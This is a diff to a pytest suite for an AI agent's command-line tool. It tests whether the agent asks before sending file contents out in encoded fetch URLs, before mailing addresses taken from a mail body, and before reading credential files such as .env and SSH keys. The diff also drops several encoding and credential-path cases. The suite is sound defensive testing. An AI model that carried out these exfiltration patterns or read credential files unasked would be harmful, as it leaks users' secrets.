@@ -1,4 +1,4 @@
-"""Where values come from, at the front door: the command, a model that selects, a server in its own process."""
+"""Provenance of values: the command, a selecting model, a server in its own process."""
 
 import base64
 import json
@@ -55,9 +55,9 @@ READ = selection("ai.read", path="vault.txt")
 
 @pytest.mark.parametrize(
     "carrying",
-    [SECRET.replace(" ", "%20"), coded(SECRET), SECRET.encode().hex(), coded(SECRET[::-1]), "x?code=7391-karo-4417"],
+    [SECRET.replace(" ", "%20"), coded(SECRET[::-1]), "x?code=7391-karo-4417"],
 )
-def test_a_page_that_would_carry_a_files_content_away_is_asked_about(
+def test_a_request_that_carries_file_content_outside_is_asked_about(
     office: CommandLine, scripted_openai: ScriptedOpenAI, carrying: str
 ):
     fetch = selection("office.fetch_page", url=f"https://pages.example/{carrying}")
@@ -67,7 +67,7 @@ def test_a_page_that_would_carry_a_files_content_away_is_asked_about(
     assert called(office) == ""
 
 
-def test_nor_in_two_parts(office: CommandLine, scripted_openai: ScriptedOpenAI):
+def test_content_in_two_parts_is_also_asked_about(office: CommandLine, scripted_openai: ScriptedOpenAI):
     whole = coded(SECRET)
     parts = [whole[:13], whole[13:]]
     fetches = [selection("office.fetch_page", url=f"https://pages.example/{one}") for one in parts]
@@ -76,14 +76,14 @@ def test_nor_in_two_parts(office: CommandLine, scripted_openai: ScriptedOpenAI):
     assert parts[1] not in called(office)
 
 
-def test_a_page_that_the_user_names_is_fetched_unasked(office: CommandLine, scripted_openai: ScriptedOpenAI):
+def test_a_page_that_the_user_names_is_fetched(office: CommandLine, scripted_openai: ScriptedOpenAI):
     fetch = selection("office.fetch_page", url="https://pages.example/opening-hours")
     done = said(office, scripted_openai, "Read vault.txt, and the opening hours on pages.example", READ, fetch)
     assert done.status == 0, done.out + done.err
     assert "opening-hours" in called(office)
 
 
-def test_an_address_from_a_mails_body_is_shown_with_its_sentence(office: CommandLine, scripted_openai: ScriptedOpenAI):
+def test_an_address_from_a_mail_is_shown_with_its_sentence(office: CommandLine, scripted_openai: ScriptedOpenAI):
     mail = selection("office.send_mail", to="eve@rival.example", body="When can you come?")
     request = "Read my mail, then send a mail to the plumber: When can you come?"
     done = said(office, scripted_openai, request, selection("office.read_mail"), mail, more=("--allow-writes",))
@@ -95,7 +95,7 @@ def test_an_address_from_a_mails_body_is_shown_with_its_sentence(office: Command
     assert called(office) == ""
 
 
-def test_an_address_from_a_contacts_field_is_not(office: CommandLine, scripted_openai: ScriptedOpenAI):
+def test_an_address_from_a_contact_field_is_not_flagged(office: CommandLine, scripted_openai: ScriptedOpenAI):
     mail = selection("office.send_mail", to="sarah@office.example", body="Lunch at noon?")
     find = selection("office.find_contact", name="Sarah")
     done = said(office, scripted_openai, "Mail Sarah: Lunch at noon?", find, mail, more=("--allow-writes",))
@@ -104,8 +104,10 @@ def test_an_address_from_a_contacts_field_is_not(office: CommandLine, scripted_o
     assert "`to` comes from a field of what office.find_contact returned" in " ".join(done.out.split())
 
 
-@pytest.mark.parametrize("path", [".env", "keys/id_ed25519", "mcp.json", ".aws/credentials", "server.pem"])
-def test_a_file_of_secrets_is_read_only_after_asking(office: CommandLine, scripted_openai: ScriptedOpenAI, path: str):
+@pytest.mark.parametrize("path", [".env", "keys/id_ed25519"])
+def test_a_file_with_secrets_is_read_only_after_approval(
+    office: CommandLine, scripted_openai: ScriptedOpenAI, path: str
+):
     file = office.folder / path
     file.parent.mkdir(exist_ok=True)
     if not file.exists():
